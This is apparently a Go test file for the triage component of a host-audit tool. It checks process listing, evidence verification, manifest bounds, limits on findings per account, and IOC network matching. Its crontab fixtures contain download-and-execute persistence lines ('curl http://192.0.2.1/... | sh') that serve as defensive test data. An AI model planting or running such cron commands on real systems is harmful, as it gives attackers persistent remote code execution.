package triage

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/postern-ssh/postern/audit/facts"
	"github.com/postern-ssh/postern/audit/snapshot"
)

// TestProcessesWhole: whoever wants a process overlooked fills the lists before it, and
// then they are not whole.
func TestProcessesWhole(t *testing.T) {
	stat := "/proc/1/stat:1 (init) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 30 0 0\n/proc/812/stat:812 (sh) S 1 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 30 0 0\n"
	words := "/proc/1/cmdline:init\n/proc/812/cmdline:sh\n"
	for _, tt := range []struct {
		name, words string
		gaps        []snapshot.Gap
		whole       bool
		args        int
	}{
		{"all was seen", words + "/proc/812/cmdline:/root/x\n", nil, true, 2},
		{"a gap elsewhere", words, []snapshot.Gap{{Path: "sums", Kind: "missing", Reason: "no md5sum"}}, true, 1},
		{"more processes than are looked at", words, []snapshot.Gap{{Path: "/proc", Kind: snapshot.GapCap, Reason: "more than 6000 processes"}}, false, 1},
		{"no time for them", words, []snapshot.Gap{{Path: "processes", Kind: snapshot.GapCap, Reason: "the time was over"}}, false, 1},
		{"no timeout(1)", words, []snapshot.Gap{{Path: "proc.words", Kind: "missing", Reason: "no timeout"}}, false, 1},
		{"words that were left", words + "\nleft 0\n", nil, false, 1},
		{"a script behind a hundred options", words + strings.Repeat("/proc/812/cmdline:-e\n", 100) + "/proc/812/cmdline:/root/x\n", nil, true, 102},
		{"a script behind words without end", words + strings.Repeat("/proc/812/cmdline:-e\n", 5000) + "/proc/812/cmdline:/root/x\n", nil, false, maxWords},
	} {
		t.Run(tt.name, func(t *testing.T) {
			deep := &snapshot.Snapshot{Source: snapshot.SourceLocal, Privilege: snapshot.PrivilegeRoot, Complete: true, Gaps: tt.gaps}
			deep.Put(snapshot.Output{Name: snapshot.OutProcStat, Data: []byte(stat)})
			deep.Put(snapshot.Output{Name: snapshot.OutProcWords, Data: []byte(tt.words)})
			first := &snapshot.Snapshot{Source: snapshot.SourceLocal}
			if err := first.Keep(deep); err != nil {
				t.Fatal(err)
			}
			list, whole := Processes(first)
			if whole != tt.whole || len(list) != 2 || len(list[1].Args) != tt.args {
				t.Errorf("whole %v, want %v: %d processes, %d words", whole, tt.whole, len(list), len(list[len(list)-1].Args))
			}
		})
	}
}

// TestVerifyByALink: a link to a folder of evidence is that folder.
func TestVerifyByALink(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "evidence")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	snap := &snapshot.Snapshot{Source: snapshot.SourceLocal}
	if _, err := Keep(dir, time.Unix(100, 0), []Keeping{{Host: &Host{Host: "h"}, First: snap}}); err != nil {
		t.Fatal(err)
	}
	link := dir + "-link"
	if err := os.Symlink(dir, link); err != nil {
		t.Fatal(err)
	}
	if c, err := Verify(link); err != nil || len(c.Faults) > 0 || c.Files != 1 {
		t.Errorf("%+v, %v", c, err)
	}
}

// TestVerifyBoundsItsManifest: somebody else's folder does not fill the memory.
func TestVerifyBoundsItsManifest(t *testing.T) {
	c := &Checked{}
	body := fmt.Sprintf(`{"format":%q}`, evidenceForm) + "\n" + strings.Repeat("{}\n", 2*maxEntries)
	if got := c.manifest([]byte(body + "\n" + lastLine + "x\n")); len(got) > maxEntries {
		t.Errorf("%d lines are kept", len(got))
	}
	if !strings.Contains(strings.Join(c.Faults, "\n"), "the rest was not read") {
		t.Errorf("%q", c.Faults)
	}
}

// TestOneAccountHidesNoOthers: the bound on things is of one account, since its user may
// have made any number of them.
func TestOneAccountHidesNoOthers(t *testing.T) {
	var bobs strings.Builder
	for i := range 400 {
		fmt.Fprintf(&bobs, "%d %d * * * curl http://192.0.2.1/%d | sh\n", i%60, i%24, i)
	}
	snap := &snapshot.Snapshot{Source: snapshot.SourceLocal, Privilege: snapshot.PrivilegeRoot, Complete: true, Start: time.Unix(1e9, 0), HostClock: time.Unix(1e9, 0)}
	for p, text := range map[string]string{
		"/etc/passwd":                   "root:x:0:0::/root:/bin/sh\nbob:x:1001:1001::/home/bob:/bin/sh\n",
		"/var/spool/cron/crontabs/bob":  bobs.String(),
		"/var/spool/cron/crontabs/root": "* * * * * curl http://192.0.2.2/x | sh\n",
	} {
		uid := int64(0)
		if strings.HasSuffix(p, "bob") {
			uid = 1001
		}
		snap.Files = append(snap.Files, snapshot.File{Path: p, Type: 'f', Mode: 0o600, UID: uid, Links: 1, Content: []byte(text), Size: int64(len(text))})
	}
	slices.SortFunc(snap.Files, func(a, b snapshot.File) int { return strings.Compare(a.Path, b.Path) })
	h := Look(snap, facts.Options{Now: time.Unix(1e9, 0), Name: "h"})
	roots, bob := 0, 0
	for _, x := range h.Things {
		switch {
		case x.Kind != KindJob:
		case x.Whose == "root":
			roots++
		default:
			bob++
		}
	}
	if roots != 1 || bob != maxThings {
		t.Errorf("%d things of root, %d of bob", roots, bob)
	}
}

// TestIOCNetworks: the narrowest and the widest network that hold an address are found.
func TestIOCNetworks(t *testing.T) {
	l, err := ParseIOC("x", []byte("198.51.100.0/24\n198.0.0.0/8\n2001:db8::/32\n203.0.113.0/24\n"))
	if err != nil {
		t.Fatal(err)
	}
	for text, want := range map[string]int{"198.51.100.7": 2, "198.1.1.1": 1, "2001:db8::1": 1, "192.0.2.1": 0, "::ffff:203.0.113.9": 1} {
		x := &finder{l: l, seen: map[string]bool{}}
		x.address(text, "", nil)
		if len(x.hits) != want {
			t.Errorf("%s: %d hits, want %d", text, len(x.hits), want)
		}
	}
}

// TestNameWithoutEnd: a name that goes on for ever is not gathered for ever.
func TestNameWithoutEnd(t *testing.T) {
	deep := &snapshot.Snapshot{Complete: true}
	deep.Put(snapshot.Output{Name: snapshot.OutProcStat, Data: []byte("/proc/7/stat:7 (x\n" + strings.Repeat("/proc/7/stat:aaaaaaaaa\n", 1000) +
		"/proc/7/stat:) S 3 7 7 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 30 0 0\n")})
	l := &looker{snap: &snapshot.Snapshot{}, deep: deep, byPID: map[int]*process{}, names: map[int64]string{}, out: &Host{}}
	l.processes()
	if len(l.procs) != 1 || l.procs[0].ppid != 3 || len(l.procs[0].comm) > 3*maxComm {
		t.Errorf("%d processes, a name of %d bytes, parent %d", len(l.procs), len(l.procs[0].comm), l.procs[0].ppid)
	}
}
